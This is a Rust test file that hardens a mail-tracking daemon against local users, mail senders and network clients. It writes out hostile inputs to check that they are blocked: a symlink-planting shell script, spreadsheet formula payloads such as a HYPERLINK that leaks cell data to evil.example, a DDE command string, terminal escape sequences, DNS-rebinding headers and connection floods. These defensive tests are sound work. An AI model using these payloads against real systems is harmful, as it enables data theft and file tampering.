//! Hardening (issue 15): what a local user, a mail sender, an IMAP server, the network and a
//! metrics scraper can do to a running foldertrack, each checked against the real binary.
//! docs/SECURITY.md says what each position can and cannot do.

use std::collections::HashMap;
use std::io::Write;
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use testkit::*;

/// Alice's mailbox with `INBOX/Tracked` tracked, linked to nothing.
fn tracked(e: &Env) -> Config {
    Config::new().mailbox(e.mailbox("alice").rule(Rule::unlinked("INBOX/Tracked")))
}

/// Runs the binary with this env's config under `umask`.
fn run_umask(e: &Env, umask: u32, args: &[&str]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_foldertrack"));
    c.current_dir(&e.work)
        .arg("--config")
        .arg(e.work.join("foldertrack.toml"))
        .args(args)
        .env_remove("RUST_LOG");
    // SAFETY: umask only sets the child's file creation mask, between fork and exec.
    unsafe {
        c.pre_exec(move || {
            libc::umask(umask as libc::mode_t);
            Ok(())
        });
    }
    c.output().expect("run foldertrack")
}

fn ok(o: Output) -> String {
    assert!(
        o.status.success(),
        "failed ({:?}):\nstdout:\n{}\nstderr:\n{}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Every file and directory under `dir` (symlinks not followed), with its mode.
fn modes(dir: &Path) -> Vec<(PathBuf, u32)> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            let md = std::fs::symlink_metadata(&p).unwrap();
            out.push((p.clone(), md.permissions().mode() & 0o777));
            if md.is_dir() {
                todo.push(p);
            }
        }
    }
    out
}

fn octal(v: &[&(PathBuf, u32)]) -> String {
    v.iter()
        .map(|(p, m)| format!("{} {m:o}\n", p.display()))
        .collect()
}

/// A message whose body is long enough to go to the blob packs, with an attachment.
fn big_message(subject: &str, id: &str) -> Vec<u8> {
    let body = "A line of text that makes the body long enough for the blob packs.\r\n".repeat(20);
    format!(
        "From: bob@acme.com\r\nTo: alice@example.com\r\nSubject: {subject}\r\nMessage-ID: {id}\r\nDate: Mon, 2 Sep 2024 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n{body}\r\n--b\r\nContent-Type: application/pdf; name=q.pdf\r\nContent-Disposition: attachment; filename=q.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJcfsj6IKNSAwIG9iago=\r\n--b--\r\n"
    )
    .into_bytes()
}

#[test]
fn data_dir_and_every_file_in_it_are_private_whatever_the_umask() {
    if sled_only("the store's files in the data dir are sled's (PostgreSQL keeps none there)") {
        return;
    }
    let e = env();
    e.write_config(&tracked(&e));
    let mut imap = e.imap("alice");
    imap.create("INBOX/Tracked");
    imap.append("INBOX/Tracked", &big_message("Quote", "<q1@acme.com>"));
    let records = e.work.join("records.jsonl");
    std::fs::write(&records, RECORDS).unwrap();
    ok(run_umask(
        &e,
        0o022,
        &["records", "import", records.to_str().unwrap()],
    ));
    ok(run_umask(&e, 0o022, &["sync"]));
    assert_eq!(e.activities().len(), 1);
    let data = e.work.join("data");
    let dir_mode = std::fs::metadata(&data).unwrap().permissions().mode() & 0o777;
    assert_eq!(dir_mode, 0o700, "data dir mode {dir_mode:o}");
    let all = modes(&data);
    assert!(
        all.iter()
            .any(|(p, _)| p.to_string_lossy().contains("pack-")),
        "the test reaches the blob packs: {all:?}"
    );
    let open: Vec<_> = all.iter().filter(|(_, m)| m & 0o077 != 0).collect();
    assert!(open.is_empty(), "readable by others: {}", octal(&open));
}

#[test]
fn an_existing_data_dir_open_to_others_is_warned_about_and_its_files_closed() {
    if sled_only("the store's files in the data dir are sled's (PostgreSQL keeps none there)") {
        return;
    }
    let e = env();
    e.write_config(&tracked(&e));
    e.imap("alice").create("INBOX/Tracked");
    // An older foldertrack under umask 022 left this.
    let data = e.work.join("data");
    std::fs::create_dir(&data).unwrap();
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o755)).unwrap();
    ok(run_umask(&e, 0o022, &["sync"]));
    std::fs::set_permissions(
        data.join("foldertrack.lock"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let stderr = ok(run_umask(&e, 0o022, &["sync"]));
    assert!(
        stderr.contains("WARN") && stderr.contains("chmod 700"),
        "a warning names the fix: {stderr}"
    );
    let st = e.status();
    let alerts = st["alerts"].as_array().unwrap();
    assert!(
        alerts
            .iter()
            .any(|a| a["message"].as_str().unwrap().contains("readable by")),
        "an alert: {alerts:?}"
    );
    assert!(e.ok(&["status"]).contains("readable by"), "status shows it");
    let all = modes(&data);
    let open: Vec<_> = all.iter().filter(|(_, m)| m & 0o077 != 0).collect();
    assert!(open.is_empty(), "files closed on open: {}", octal(&open));
}

/// `demo` as root used `$TMPDIR/foldertrack-demo-<pid>`, accepted it when it existed, and wrote
/// Dovecot's files there following symlinks: a local user who planted that directory could
/// have root overwrite and chmod any file. `exec` keeps the shell's pid, so the planted path is
/// exactly the one the old code chose.
#[test]
fn demo_ignores_a_directory_planted_at_a_predictable_temp_path() {
    let tmp = tempfile::Builder::new()
        .prefix("ft-sec-")
        .tempdir_in("/tmp")
        .unwrap();
    // As root, Dovecot's users must traverse every parent of its directory.
    std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let tmpdir = tmp.path().join("tmp");
    std::fs::create_dir(&tmpdir).unwrap();
    std::fs::set_permissions(&tmpdir, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let victim = tmp.path().join("victim");
    std::fs::write(&victim, "precious\n").unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).unwrap();
    let script = r#"d="$TMPDIR/foldertrack-demo-$$"
mkdir "$d" && ln -s "$VICTIM" "$d/passwd" && ln -s "$VICTIM" "$d/dovecot.conf" || exit 99
exec "$FT" demo --dir "$DEMO""#;
    let o = Command::new("sh")
        .arg("-c")
        .arg(script)
        .env("TMPDIR", &tmpdir)
        .env("VICTIM", &victim)
        .env("FT", env!("CARGO_BIN_EXE_foldertrack"))
        .env("DEMO", tmp.path().join("demo"))
        .env_remove("RUST_LOG")
        .output()
        .unwrap();
    let out = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert_ne!(o.status.code(), Some(99), "planting failed: {out}");
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "precious\n",
        "the planted symlink was followed: {out}"
    );
    let mode = std::fs::metadata(&victim).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the victim was chmodded");
    assert!(o.status.success(), "the demo still works: {out}");
    assert!(out.contains("7 activities"), "{out}");
    // The demo's own temp dir is gone; the planted one is left as it was.
    let left: Vec<_> = std::fs::read_dir(&tmpdir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(left.len(), 1, "{left:?}");
}

/// Sends `request` as it is to 127.0.0.1:`port`: (status code, head, body).
fn http_raw(port: u16, request: &str) -> (u16, String, String) {
    testkit::http::raw(([127, 0, 0, 1], port).into(), request)
}

fn http_get(port: u16, path: &str) -> (u16, String) {
    let (code, _, body) = http_raw(
        port,
        &format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"),
    );
    (code, body)
}

/// One sample: metric name, labels in order, value.
type Sample = (String, Vec<(String, String)>, String);

/// A strict parser of the OpenMetrics text format (the subset foldertrack writes): `# HELP`,
/// `# TYPE`, `# UNIT` lines, one `# EOF` at the end, and samples `name{l="v",...} value` whose
/// label values may hold only the escapes `\\`, `\"` and `\n`. Anything else is an `Err`
/// naming the line, so a scrape Prometheus would reject fails the test.
fn parse_exposition(text: &str) -> Result<Vec<Sample>, String> {
    let body = text
        .strip_suffix("# EOF\n")
        .ok_or("no `# EOF` line at the end")?;
    let name_ok = |n: &str| {
        !n.is_empty()
            && !n.starts_with(|c: char| c.is_ascii_digit())
            && n.chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == ':')
    };
    let mut families = Vec::new();
    let mut out = Vec::new();
    for (i, line) in body.split('\n').enumerate() {
        let bad = |why: &str| format!("line {}: {why}: {line:?}", i + 1);
        if line.is_empty() {
            if i + 1 == body.split('\n').count() {
                continue; // after the last newline
            }
            return Err(bad("empty line"));
        }
        if let Some(rest) = line.strip_prefix('#') {
            let mut parts = rest.splitn(4, ' ');
            let (_, kind, name) = (parts.next(), parts.next(), parts.next());
            let name = name.unwrap_or("");
            match kind {
                Some("HELP") | Some("UNIT") if name_ok(name) => {}
                Some("TYPE") if name_ok(name) => {
                    let t = parts.next().unwrap_or("");
                    if !["counter", "gauge", "histogram", "info", "unknown"].contains(&t) {
                        return Err(bad("unknown type"));
                    }
                    families.push(name.to_string());
                }
                _ => return Err(bad("unknown comment")),
            }
            continue;
        }
        let end = line.find(['{', ' ']).ok_or_else(|| bad("no value"))?;
        let name = &line[..end];
        if !name_ok(name) {
            return Err(bad("bad metric name"));
        }
        if !families.iter().any(|f| name.starts_with(f.as_str())) {
            return Err(bad("a sample outside any declared family"));
        }
        let mut rest = &line[end..];
        let mut labels = Vec::new();
        if let Some(r) = rest.strip_prefix('{') {
            rest = r;
            loop {
                let eq = rest.find('=').ok_or_else(|| bad("label without ="))?;
                let lname = &rest[..eq];
                if !name_ok(lname) {
                    return Err(bad("bad label name"));
                }
                rest = rest[eq + 1..]
                    .strip_prefix('"')
                    .ok_or_else(|| bad("label value not quoted"))?;
                let mut value = String::new();
                let mut chars = rest.char_indices();
                let close = loop {
                    match chars.next() {
                        None => return Err(bad("unterminated label value")),
                        Some((j, '"')) => break j,
                        Some((_, '\\')) => match chars.next() {
                            Some((_, '\\')) => value.push('\\'),
                            Some((_, '"')) => value.push('"'),
                            Some((_, 'n')) => value.push('\n'),
                            _ => return Err(bad("bad escape in a label value")),
                        },
                        Some((_, c)) => value.push(c),
                    }
                };
                labels.push((lname.to_string(), value));
                rest = &rest[close + 1..];
                if let Some(r) = rest.strip_prefix(',') {
                    rest = r;
                } else if let Some(r) = rest.strip_prefix('}') {
                    rest = r;
                    break;
                } else {
                    return Err(bad("junk after a label value"));
                }
            }
        }
        let value = rest
            .strip_prefix(' ')
            .ok_or_else(|| bad("no space before the value"))?;
        if value.split(' ').count() > 2 || value.split(' ').next().unwrap().parse::<f64>().is_err()
        {
            return Err(bad("bad value"));
        }
        out.push((name.to_string(), labels, value.to_string()));
    }
    let mut seen = std::collections::HashSet::new();
    for (n, l, _) in &out {
        if !seen.insert((n, l)) {
            return Err(format!("series {n}{l:?} twice"));
        }
    }
    Ok(out)
}

#[test]
fn strict_parser_rejects_what_prometheus_rejects() {
    let ok = "# TYPE a counter\na_total{f=\"x\\\"y\\\\z\\n\"} 1\n# EOF\n";
    let s = parse_exposition(ok).unwrap();
    assert_eq!(s[0].1[0].1, "x\"y\\z\n");
    for bad in [
        "# TYPE a counter\na_total{f=\"x\"y\"} 1\n# EOF\n",
        "# TYPE a counter\na_total{f=\"x\n\"} 1\n# EOF\n",
        "# TYPE a counter\na_total{f=\"x\\q\"} 1\n# EOF\n",
        "# TYPE a counter\na_total 1\n",
        "# TYPE a counter\na_total 1\na_total 2\n# EOF\n",
    ] {
        assert!(parse_exposition(bad).is_err(), "{bad}");
    }
}

/// A folder name with quotes (legal on every server) broke every scrape: prometheus-client 0.24
/// wrote label values as they were.
#[test]
fn metrics_stay_parseable_with_quotes_and_backslashes_in_folder_names() {
    let e = env();
    e.write_config(
        &Config::new()
            .metrics()
            .mailbox(e.mailbox("alice").rule(Rule::by_name("INBOX/Customers/*"))),
    );
    let folder = r#"INBOX/Customers/Acme "Ltd" \ Co"#;
    let mut imap = e.imap("alice");
    imap.create("INBOX/Customers");
    imap.create(folder);
    imap.append(
        folder,
        &message("bob@acme.com", "alice@example.com", "hi", Some("<q@x>")),
    );
    let agent = e.start_agent();
    let port = agent.metrics_addr().port();
    let mut samples = Vec::new();
    wait_for("the message counted", 30, || {
        let (code, body) = http_get(port, "/metrics");
        assert_eq!(code, 200, "{body}");
        samples = parse_exposition(&body).unwrap_or_else(|err| panic!("{err}\n{body}"));
        samples
            .iter()
            .any(|(n, _, _)| n == "foldertrack_messages_total")
    });
    let labels: HashMap<_, _> = samples
        .iter()
        .find(|(n, _, _)| n == "foldertrack_messages_total")
        .unwrap()
        .1
        .iter()
        .cloned()
        .collect();
    assert_eq!(labels["folder"], folder, "the label reads back as the name");
}

/// DNS rebinding: a web page from evil.example whose name then resolves to 127.0.0.1 makes the
/// browser send `Host: evil.example` to the loopback endpoint. Only the listen address, IP
/// literals, loopback names, this host's name and `[metrics] allowed_hosts` are answered.
#[test]
fn metrics_endpoint_answers_only_its_own_host_names() {
    let e = env();
    e.write_config(&tracked(&e).metrics_with("allowed_hosts = [\"metrics.example.org\"]"));
    e.imap("alice").create("INBOX/Tracked");
    let agent = e.start_agent();
    let port = agent.metrics_addr().port();
    let get = |host: Option<&str>| {
        let h = host.map(|h| format!("Host: {h}\r\n")).unwrap_or_default();
        http_raw(port, &format!("GET /metrics HTTP/1.1\r\n{h}\r\n")).0
    };
    for evil in [
        "evil.example",
        "evil.example:80",
        &format!("evil.example:{port}"),
    ] {
        assert_eq!(get(Some(evil)), 421, "Host: {evil}");
    }
    let (code, _, body) = http_raw(port, "GET /healthz HTTP/1.1\r\nHost: evil.example\r\n\r\n");
    assert_eq!(code, 421, "{body}");
    for good in [
        format!("127.0.0.1:{port}"),
        "127.0.0.1".to_string(),
        format!("localhost:{port}"),
        "LOCALHOST".to_string(),
        format!("[::1]:{port}"),
        "metrics.example.org:9898".to_string(),
    ] {
        assert_eq!(get(Some(&good)), 200, "Host: {good}");
    }
    assert_eq!(get(None), 200, "HTTP/1.0 clients send no Host");
}

/// Each connection held a task and a buffer with no bound: a client could open thousands.
#[test]
fn metrics_endpoint_bounds_concurrent_connections() {
    let e = env();
    e.write_config(&tracked(&e).metrics());
    e.imap("alice").create("INBOX/Tracked");
    let agent = e.start_agent();
    let port = agent.metrics_addr().port();
    // Connections that send nothing hold their place until the request timeout.
    let idle: Vec<TcpStream> = (0..32)
        .map(|_| TcpStream::connect(("127.0.0.1", port)).unwrap())
        .collect();
    std::thread::sleep(std::time::Duration::from_millis(300));
    let t = std::time::Instant::now();
    let (code, _, body) = http_raw(
        port,
        &format!("GET /metrics HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"),
    );
    assert_eq!(code, 503, "over the bound: {body}");
    assert!(
        t.elapsed() < std::time::Duration::from_secs(2),
        "answered at once"
    );
    drop(idle);
    wait_for("the endpoint to serve again", 10, || {
        http_get(port, "/metrics").0 == 200
    });
}

/// A mail sender controls subjects, bodies and addresses: `activities export --format csv`
/// must not hand a spreadsheet a formula.
#[test]
fn csv_export_of_hostile_mail_holds_no_formula() {
    let e = env();
    e.write_config(&tracked(&e));
    let mut imap = e.imap("alice");
    imap.create("INBOX/Tracked");
    let mut m = message(
        "bob@acme.com",
        "alice@example.com",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        Some("<f1@x>"),
    );
    let body =
        String::from_utf8(m.split_off(m.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4))
            .unwrap();
    assert!(body.starts_with("Body of"));
    m.extend_from_slice(b"+cmd|' /C calc'!A0\r\n");
    imap.append("INBOX/Tracked", &m);
    e.ok(&["sync"]);
    let csv = e.ok(&["activities", "export", "--format", "csv"]);
    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
    let headers = rdr.headers().unwrap().clone();
    let row = rdr.records().next().unwrap().unwrap();
    let cell = |name: &str| &row[headers.iter().position(|h| h == name).unwrap()];
    assert_eq!(
        cell("subject"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert!(
        cell("body_text").starts_with("'+cmd"),
        "{}",
        cell("body_text")
    );
    for c in row.iter() {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a formula cell: {c:?}"
        );
    }
}

/// Runs the binary on a pseudo-terminal (util-linux `script`), as a person at a terminal
/// would: its stdout is a tty. Returns what the terminal received.
fn on_terminal(e: &Env, args: &str) -> String {
    let cmd = format!(
        "{} --config {} {args}",
        env!("CARGO_BIN_EXE_foldertrack"),
        e.work.join("foldertrack.toml").display()
    );
    let o = Command::new("script")
        .args(["-qec", &cmd, "/dev/null"])
        .current_dir(&e.work)
        .env_remove("RUST_LOG")
        .output()
        .expect("util-linux script runs the command on a pty");
    assert!(o.status.success(), "{o:?}");
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Mail is written by anyone: `activities show` and `quarantine show` put its subject, body
/// and raw bytes on the admin's terminal, where an escape sequence could retitle the window,
/// clear the screen or (on some terminals) type into the shell.
#[test]
fn show_escapes_terminal_control_sequences_from_mail_on_a_terminal() {
    let e = env();
    e.write_config(&tracked(&e).top("max_message_size = 2000"));
    let mut imap = e.imap("alice");
    imap.create("INBOX/Tracked");
    let evil = "\x1b]0;pwned\x07\x1b[2J";
    let mut m = message(
        "bob@acme.com",
        "alice@example.com",
        &format!("Hi {evil}"),
        Some("<t1@x>"),
    );
    m.extend_from_slice(format!("body {evil} end\r\n\ttabbed\r\n").as_bytes());
    imap.append("INBOX/Tracked", &m);
    let mut big = message("bob@acme.com", "alice@example.com", "big", Some("<t2@x>"));
    big.extend_from_slice(format!("{evil}\r\n").as_bytes());
    big.extend(std::iter::repeat_n(b'x', 3000));
    imap.append("INBOX/Tracked", &big);
    e.ok(&["sync"]);
    let shown = on_terminal(&e, "activities show 1");
    assert!(shown.contains("Hi "), "{shown}");
    assert!(
        !shown.contains('\x1b') && !shown.contains('\x07'),
        "{shown:?}"
    );
    assert!(
        shown.contains("\\x1b]0;pwned\\x07"),
        "shown escaped: {shown:?}"
    );
    assert!(shown.contains("\ttabbed"), "tabs stay: {shown:?}");
    let q = on_terminal(&e, "quarantine show 1");
    assert!(q.contains("quarantined message 1"), "{q}");
    assert!(!q.contains('\x1b') && !q.contains('\x07'), "{q:?}");
    // Into a pipe or a file, the text is as it was.
    let piped = e.ok(&["activities", "show", "1"]);
    assert!(piped.contains(evil), "{piped:?}");
}

/// One request line to the agent's control socket, as the agent's own user; the reply line
/// (empty when the agent closed without one).
fn control(e: &Env, request: &[u8]) -> String {
    use std::io::BufRead;
    let mut s = std::os::unix::net::UnixStream::connect(e.work.join("data/foldertrack.sock"))
        .expect("connect to the control socket");
    s.set_read_timeout(Some(std::time::Duration::from_secs(30)))
        .unwrap();
    let _ = s.write_all(request);
    let mut line = String::new();
    let _ = std::io::BufReader::new(s).read_line(&mut line);
    line
}

/// Another local user who can reach the socket (a data dir made 0755 by hand, or the instant
/// before the old code's chmod) could read every activity and import records.
#[test]
fn control_socket_answers_only_the_agents_own_user() {
    let e = env();
    e.write_config(&tracked(&e));
    e.imap("alice").create("INBOX/Tracked");
    let _agent = e.start_agent();
    let data = e.work.join("data");
    let sock = data.join("foldertrack.sock");
    assert_eq!(
        std::fs::metadata(&sock).unwrap().permissions().mode() & 0o777,
        0o600
    );
    // Open the way on purpose: the check must not rest on file modes alone.
    for p in [e.work.parent().unwrap(), &e.work, &data] {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    std::fs::set_permissions(&sock, std::fs::Permissions::from_mode(0o666)).unwrap();
    let script = "import socket,sys\ns=socket.socket(socket.AF_UNIX)\ns.settimeout(30)\ns.connect(sys.argv[1])\ns.sendall(b'{\"cmd\":\"status\",\"json\":true}\\n')\nprint(s.makefile().readline())";
    let mut c = Command::new("python3");
    c.args(["-c", script]).arg(&sock);
    // SAFETY: setgid/setuid between fork and exec, to run the client as `nobody`.
    unsafe {
        c.pre_exec(|| {
            if libc::setgid(65534) != 0 || libc::setuid(65534) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let o = c.output().unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success(), "{o:?}");
    assert!(!out.contains("mailboxes"), "nobody got the status: {out}");
    let reply: serde_json::Value = serde_json::from_str(&out).expect("an answer");
    assert!(reply["stderr"].as_str().unwrap().contains("uid"), "{reply}");
    // The agent's own user still gets it.
    let mine: serde_json::Value =
        serde_json::from_str(&control(&e, b"{\"cmd\":\"status\",\"json\":true}\n")).unwrap();
    assert_eq!(mine["code"], 0, "{mine}");
}

#[test]
fn control_socket_bounds_requests_connections_and_idle_time() {
    let e = env();
    e.write_config(&tracked(&e));
    e.imap("alice").create("INBOX/Tracked");
    let _agent = e.start_agent();
    // 2 MiB of padding on a small command: refused, not buffered up to 256 MiB.
    let mut big = b"{\"cmd\":\"records_list\",\"json\":true,\"pad\":\"".to_vec();
    big.extend(std::iter::repeat_n(b'x', 2 << 20));
    big.extend_from_slice(b"\"}\n");
    let r: serde_json::Value = serde_json::from_str(&control(&e, &big)).unwrap();
    assert_eq!(r["code"], 2, "{r}");
    assert!(r["stderr"].as_str().unwrap().contains("too large"), "{r}");
    // A connection that sends nothing is closed.
    let t = std::time::Instant::now();
    assert_eq!(control(&e, b""), "", "closed without an answer");
    assert!(
        t.elapsed() < std::time::Duration::from_secs(20),
        "idle connection closed after {:?}",
        t.elapsed()
    );
    // Idle connections past the bound: the next one is told the agent is busy.
    let idle: Vec<_> = (0..8)
        .map(|_| {
            std::os::unix::net::UnixStream::connect(e.work.join("data/foldertrack.sock")).unwrap()
        })
        .collect();
    std::thread::sleep(std::time::Duration::from_millis(300));
    let r: serde_json::Value =
        serde_json::from_str(&control(&e, b"{\"cmd\":\"status\",\"json\":true}\n")).unwrap();
    assert_eq!(r["code"], 1, "{r}");
    assert!(r["stderr"].as_str().unwrap().contains("busy"), "{r}");
    drop(idle);
    wait_for("the socket to answer again", 10, || {
        control(&e, b"{\"cmd\":\"status\",\"json\":true}\n").contains("\"code\":0")
    });
}

/// `records add` and `records import` check every record; a request on the socket skipped
/// those checks and stored whatever it carried.
#[test]
fn records_sent_to_the_agent_are_checked_like_records_add() {
    let e = env();
    e.write_config(&tracked(&e));
    e.imap("alice").create("INBOX/Tracked");
    let _agent = e.start_agent();
    let req = br#"{"cmd":"records_put","from":"x","records":[{"type":"account","key":"ok","name":"Ok","emails":["a@b.com"],"owner":null,"shared":false,"teams":[]},{"type":"Account","key":"bad key\n","name":"","emails":["not an email"],"owner":"team:x","shared":false,"teams":[]}]}
"#;
    let r: serde_json::Value = serde_json::from_str(&control(&e, req)).unwrap();
    assert_eq!(r["code"], 2, "{r}");
    assert!(
        r["stderr"].as_str().unwrap().contains("not an email"),
        "{r}"
    );
    assert!(
        e.ok(&["records", "list"]).contains("no records"),
        "all or nothing"
    );
}

/// `/healthz` is for a scraper, which need not learn IMAP user names or what the server said:
/// the reason only, the detail with `[metrics] detail = true`.
#[test]
fn healthz_gives_reasons_without_user_names_or_server_text_unless_asked() {
    let e = env();
    e.write_config(
        &Config::new().metrics().mailbox(
            e.mailbox("alice")
                .name("sales")
                .wrong_password()
                .rule(Rule::unlinked("INBOX/Tracked")),
        ),
    );
    e.imap("alice").create("INBOX/Tracked");
    let agent = e.start_agent();
    let port = agent.metrics_addr().port();
    let mut body = String::new();
    wait_for("the mailbox disabled", 30, || {
        let (code, b) = http_get(port, "/healthz");
        body = b;
        code == 503 && body.contains("disabled")
    });
    assert!(body.contains("mailbox sales"), "{body}");
    for secret in ["alice", "uthenticat", "127.0.0.1"] {
        assert!(!body.contains(secret), "`{secret}` in /healthz: {body}");
    }
    let (_, metrics) = http_get(port, "/metrics");
    assert!(!metrics.contains("alice"), "{metrics}");
    // Asked for: the detail is there.
    let cfg = e.work.join("foldertrack.toml");
    let text = std::fs::read_to_string(&cfg)
        .unwrap()
        .replace("[metrics]\n", "[metrics]\ndetail = true\n");
    std::fs::write(&cfg, text).unwrap();
    agent.signal("HUP");
    wait_for("the detail in /healthz", 30, || {
        let (_, b) = http_get(port, "/healthz");
        body = b;
        body.contains("alice") && body.contains("uthenticat")
    });
}

/// The unit limits what a compromised agent can do: no core dumps (they would hold passwords
/// and mail), bounded memory and tasks (a token_command fork bomb), no view of other
/// processes, and TCP binds only on the metrics port. packaging.rs runs systemd-analyze verify.
#[test]
fn systemd_unit_confines_the_agent() {
    let unit = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("contrib/foldertrack.service"),
    )
    .unwrap();
    let has = |k: &str| unit.lines().any(|l| l.trim() == k);
    for key in [
        "LimitCORE=0",
        "ProcSubset=pid",
        "SocketBindAllow=tcp:9898",
        "SocketBindDeny=any",
    ] {
        assert!(has(key), "the unit sets {key}");
    }
    for prefix in ["MemoryMax=", "TasksMax="] {
        assert!(
            unit.lines()
                .any(|l| l.starts_with(prefix) && l.len() > prefix.len()),
            "the unit sets {prefix}"
        );
    }
}
